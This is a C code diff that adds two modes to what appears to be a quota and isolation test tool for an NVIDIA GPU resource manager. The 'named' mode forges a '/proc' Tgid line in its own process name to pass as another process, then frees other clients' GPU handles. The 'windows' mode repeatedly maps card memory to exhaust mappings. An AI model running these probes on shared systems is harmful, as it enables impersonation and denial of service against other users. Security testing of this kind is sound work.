@@ -4,6 +4,8 @@
  * makes, shares or keeps some. It stops at three times its quota, which is more than enough to be caught. What it was
  * granted plainly before, and that it was refused more after, is what its report begins with.
  */
+#include <dirent.h>
+#include <sys/prctl.h>
 #include <sys/wait.h>
 
 #include "rm.h"
@@ -291,6 +293,53 @@ static void address_spaces(void)
 	}
 }
 
+/* A quarter in the smallest pages, mapped for the processor again and again: the card's window has page tables too. */
+static void windows(void)
+{
+	struct { uint32_t client, device, memory, pad; uint64_t offset, length, address; uint32_t status, flags; int fd, pad2; } map;
+	NV_MEMORY_ALLOCATION_PARAMS params = rm_memory_params(&rm, quota / 8);
+	uint32_t memory = ++rm.last;
+	char own[32], card[64] = "";
+
+	snprintf(own, sizeof(own), "/proc/self/fd/%d", rm.card);
+	if (readlink(own, card, sizeof(card) - 1) < 0)
+		return;
+	params.attr |= 1 << 23;
+	if (!took(rm_alloc(&rm, way, rm.device, NV01_MEMORY_LOCAL_USER, &params, &memory), quota / 8))
+		return;
+	for (int i = 0; i < 400; i++) {
+		map = (typeof(map)){ rm.client, rm.device, memory, .length = quota / 8, .status = ~0u,
+				     .fd = open(card, O_RDWR) };
+		if (rm_plain(rm.ctl, 0x4e, &map, sizeof(map)) < 0 || map.status != NV_OK)
+			break;
+		sums->started++;
+	}
+}
+
+/* By a name that looks like a line of /proc, be taken for the neighbour, and free what it has. */
+static void named(void)
+{
+	DIR *all = opendir("/proc");
+	struct dirent *entry;
+
+	while (all && (entry = readdir(all))) {
+		int pid = atoi(entry->d_name), own = getpid();
+		char name[32];
+
+		if (pid < 2 || pid == own || pid == getppid())
+			continue;
+		snprintf(name, sizeof(name), "\x0cTgid:\t%d", pid);
+		prctl(PR_SET_NAME, name);
+		for (int fd = 3; fd < 24; fd++) {
+			for (uint32_t back = 1; back <= 24; back++) {
+				NVOS00_PARAMETERS call = { .hRoot = rm.client - back, .hObjectOld = rm.client - back };
+
+				rm_plain(fd, NV_ESC_RM_FREE, &call, sizeof(call));
+			}
+		}
+	}
+}
+
 /* Hold all there is in four parts, give one back and take it again for as long as that works; tell how many are held. */
 static void hungry(void)
 {
@@ -387,6 +436,10 @@ int main(int argc, char **argv)
 		small_pieces();
 	} else if (!strcmp(mode, "spaces")) {
 		address_spaces();
+	} else if (!strcmp(mode, "windows")) {
+		windows();
+	} else if (!strcmp(mode, "named")) {
+		named();
 	} else if (!strcmp(mode, "hungry")) {
 		hungry();
 	} else if (!strcmp(mode, "exec")) {
